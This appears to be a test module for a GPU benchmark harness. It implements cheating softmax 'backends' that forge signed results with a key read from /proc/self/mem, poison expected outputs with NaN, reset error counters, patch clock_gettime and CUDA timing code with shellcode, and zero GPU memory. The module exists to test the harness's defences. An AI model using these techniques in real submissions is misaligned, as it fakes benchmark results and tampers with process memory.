"""Ports of the 22 exploits of pygpubench: attacks on a harness in the plugin's own process. Exploits by the name of their port:

- from-the-heap: gc_copy. overwrites-the-gpu: gpu_scan_zeros. without-events: event_array. slow-at-first: warmup
- poisons-expected-outputs: gc_nan, test_canary_direct, test_canary_make_writeable. poisons-and-is-slow-at-first: combined
- resets-counters: error_counter, and the two of test_canary
- forges-with-a-secret: heap_sig_scan, stack_sig_scan; and by /proc/self/mem, aes_key_recovery, proc_mem_bypass
- forges-a-reply, forges-places and two more: fd_overwrite, thread_fd
- rewrites-its-replies: pipe_interpose, file_struct, seccomp_trap
- detours-a-clock: function_detour. patches-the-table: got_patch. traced-by-a-child: ptrace
- reaches-files-and-network (`judge_attacks.py`): replace_torch

`ends` is the status of the judgement, and `rule` a part of its reason. `fools` is what tests/support/shared_harness.py reports of it.
"""

import ctypes
import gc
import json
import mmap
import os
import re
import stat
import struct
import sys
import threading
import time
from pathlib import Path

import torch

from softbench import Direction

SLOW_SECONDS = 0.002
CALLS_BEFORE = 4
"""Calls that a harness makes to find out how long one takes, at most."""
SECRET = re.compile(rb"softbench-secret-[0-9a-f]{32}")
LARGEST_BYTES = 2**28
"""Of a mapping that is searched."""
TIME_STANDS_STILL = bytes.fromhex("48c70600000000 48c7460800000000 31c0 c3")
"""x86-64: stores zero seconds and nanoseconds at rsi, and returns 0."""
NOTHING_ELAPSED = bytes.fromhex("c707bd378635 31c0 c3")
"""x86-64: stores the float 1e-6 at rdi, and returns 0: the code of a function such as cuEventElapsedTime."""
SECTIONS_AT, SECTION, DYNAMIC_SYMBOLS, RELOCATIONS, JUMP_SLOT, GLOBAL_DATA = 40, 64, 11, 4, 7, 6
"""Of ELF for x86-64: where a file names its sections, the bytes of a section's header, two types of sections, two types of relocations."""
SEIZE, SET_PTRACER, SET_DUMPABLE = 0x4206, 0x59616D61, 4
KEPT = []
"""Code that the table names until the process ends."""
LIBC = ctypes.CDLL(None, use_errno=True)


def honest(x):
    return torch.softmax(x, dim=-1)


def slow(x):
    LIBC.usleep(int(SLOW_SECONDS * 1e6))  # relative to now, so the kernel keeps it whatever the clock says
    return honest(x)


def mappings():
    """Begin, end and name of each mapping."""
    for line in Path("/proc/self/maps").read_text().splitlines():
        span, _, _, _, _, *name = line.split(maxsplit=5)
        begin, end = (int(address, 16) for address in span.split("-"))
        yield begin, end, name[0] if name else ""


def secrets():
    """What looks like a key of a harness, in all memory that is no file. /proc/self/mem also has what mprotect forbids to read."""
    found = set()
    with Path("/proc/self/mem").open("rb", 0) as memory:
        for begin, end, name in mappings():
            if not name.startswith("/") and end - begin <= LARGEST_BYTES:
                try:
                    memory.seek(begin)
                    found |= set(SECRET.findall(memory.read(end - begin)))
                except (OSError, ValueError, OverflowError):
                    continue
    return found


def forging_with_a_secret():
    """Signs a reply of its own with the key that it found, sends it everywhere, and ends."""
    for secret in secrets():
        message = json.dumps({"secret": secret.decode(), "right": True, "us": 0.001, "calls": 99}).encode() + b"\n"
        for entry in Path("/proc/self/fd").iterdir():
            try:
                if stat.S_ISFIFO(entry.stat().st_mode) or stat.S_ISSOCK(entry.stat().st_mode):
                    os.write(int(entry.name), message)
            except OSError:
                continue
        os._exit(0)
    return honest


def poisoning():
    """Makes every expected output NaN, which some checks accept for anything, and computes nothing."""
    for item in gc.get_objects():
        if type(item) is tuple and [*map(type, item)] == [torch.Tensor, float, float]:
            item[0].fill_(float("nan"))
    return torch.zeros_like


def resetting_counters():
    """Computes nothing, and a thread sets to zero all that may be a counter of errors."""
    counters = [item for item in gc.get_objects() if type(item) is torch.Tensor and item.dtype is torch.int32 and item.numel() == 1]
    sys.setswitchinterval(1e-6)

    def reset():
        while True:
            for counter in counters:
                counter.zero_()
            time.sleep(0)

    threading.Thread(target=reset, daemon=True).start()
    return torch.zeros_like


def rewriting():
    """Is slow, and changes each time in what its process writes."""
    dumps = json.dumps

    def rewritten(value, *arguments, **options):
        if isinstance(value, dict):
            value = {key: 0.001 if isinstance(item, float) else item for key, item in value.items()}
        return dumps(value, *arguments, **options)

    json.dumps = rewritten
    return slow


def patching_the_table():
    """Is slow, and after the build lets the table by which Python calls libc's clock name another function."""
    code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(TIME_STANDS_STILL)
    KEPT.append(code)
    places, calls = list(table_entries(b"clock_gettime")), [0]

    def call(x):
        calls[0] += 1
        if calls[0] == 2:
            for place in places:
                LIBC.mprotect(ctypes.c_void_p(place & -mmap.PAGESIZE), mmap.PAGESIZE, 3)
                ctypes.c_uint64.from_address(place).value = ctypes.addressof(ctypes.c_char.from_buffer(code))
            if time.perf_counter() != time.perf_counter():
                raise RuntimeError("the table cannot be changed, so this attack shows nothing")
        return slow(x)

    return call


def table_entries(symbol):
    """The addresses at which Python's own files keep the address of a function of another library."""
    begins = {}
    for begin, _, name in mappings():
        if name.startswith("/") and "python" in Path(name).name:
            begins.setdefault(name, begin)
    for name, begin in begins.items():
        data = Path(name).read_bytes()
        if data[:4] != b"\x7fELF":
            continue
        base = begin if struct.unpack_from("<H", data, 16)[0] == 3 else 0
        (at,), (count,) = struct.unpack_from("<Q", data, SECTIONS_AT), struct.unpack_from("<H", data, 60)
        sections = [struct.unpack_from("<IIQQQQIIQQ", data, at + number * SECTION) for number in range(count)]
        for section in sections:
            if section[1] != RELOCATIONS or not section[6] or sections[section[6]][1] != DYNAMIC_SYMBOLS:
                continue
            symbols, names = sections[section[6]], sections[sections[section[6]][6]]
            for place in range(section[4], section[4] + section[5], 24):
                offset, about, _ = struct.unpack_from("<QQq", data, place)
                text = names[4] + struct.unpack_from("<I", data, symbols[4] + (about >> 32) * 24)[0]
                if about & 0xFFFFFFFF in (JUMP_SLOT, GLOBAL_DATA) and data[text : text + len(symbol) + 1] == symbol + b"\0":
                    yield base + offset


def slow_at_first(call=honest):
    """Is slow while a harness finds out how long a call takes, so that it makes few."""
    calls = [0]

    def late(x):
        calls[0] += 1
        if calls[0] <= CALLS_BEFORE:
            time.sleep(10 * SLOW_SECONDS)
        return call(x)

    return late


def traced_by_a_child():
    """Lets a child trace it, and so write into its own code."""
    LIBC.prctl(SET_PTRACER, ctypes.c_ulong(-1))
    LIBC.prctl(SET_DUMPABLE, 1)
    parent, pid = os.getpid(), os.fork()
    if not pid:
        os._exit(LIBC.ptrace(SEIZE, parent, 0, 0) != 0)
    if os.waitpid(pid, 0)[1] == 0:
        raise RuntimeError("reached its own code by a child's ptrace")
    return honest


def without_events():
    """Is slow on a GPU, and every event of CUDA says that no time has passed."""
    torch.cuda.Event.elapsed_time = lambda *_: 1e-6
    for library, function in (("libcuda.so.1", "cuEventElapsedTime"), ("libcudart.so", "cudaEventElapsedTime")):
        try:
            address = ctypes.cast(getattr(ctypes.CDLL(library), function), ctypes.c_void_p).value
        except (OSError, AttributeError):
            continue
        if not LIBC.mprotect(ctypes.c_void_p(address & -mmap.PAGESIZE), 2 * mmap.PAGESIZE, 7):
            ctypes.memmove(address, NOTHING_ELAPSED, len(NOTHING_ELAPSED))
    return lambda x: [honest(x) for _ in range(3)][-1]


def overwriting_the_gpu():
    """Computes nothing, and sets to zero all of the GPU's memory near its input that its process can name, without the input itself."""
    cuda, reach, step = ctypes.CDLL("libcuda.so.1"), 2**34, 2**21

    def call(x):
        begin, size, mine = ctypes.c_uint64(), ctypes.c_size_t(), range(x.data_ptr(), x.data_ptr() + x.nbytes)
        at = max(0, (x.data_ptr() & -step) - reach)
        while at < x.data_ptr() + reach:
            if cuda.cuMemGetAddressRange_v2(ctypes.byref(begin), ctypes.byref(size), ctypes.c_uint64(at)):
                at += step
                continue
            if mine.start not in range(begin.value, begin.value + size.value):
                cuda.cuMemsetD8_v2(begin, 0, size)
            at = max(at + step, begin.value + size.value + step - 1 & -step)
        return torch.zeros_like(x)

    return call


class Attack:
    """A softmax that attacks its harness."""

    def __init__(self, name, make, ends="ok", rule="", *, fools=None, cuda=False):
        self.name, self.make, self.ends, self.rule, self.fools, self.cuda = name, make, ends, rule, fools, cuda

    def available(self):
        return "no GPU" if self.cuda and not torch.cuda.is_available() else None

    def supports(self, case):
        return None if case.direction is Direction.FORWARD else "forward only"

    def prepare(self, case):
        return self.make()


WRONG = "should be"
backends = [
    Attack("forges-with-a-secret", forging_with_a_secret, fools="time"),
    Attack("poisons-expected-outputs", poisoning, "wrong", WRONG, fools="check"),
    Attack("resets-counters", resetting_counters, "wrong", WRONG, fools="check"),
    Attack("rewrites-its-replies", rewriting, fools="time"),
    Attack("patches-the-table", patching_the_table, fools="time"),
    Attack("slow-at-first", slow_at_first, fools="calls"),
    Attack("poisons-and-is-slow-at-first", lambda: slow_at_first(poisoning()), "wrong", WRONG, fools="check"),
    Attack("traced-by-a-child", traced_by_a_child, fools="error"),
    Attack("without-events", without_events, cuda=True),
    Attack("overwrites-the-gpu", overwriting_the_gpu, "wrong", cuda=True),
]
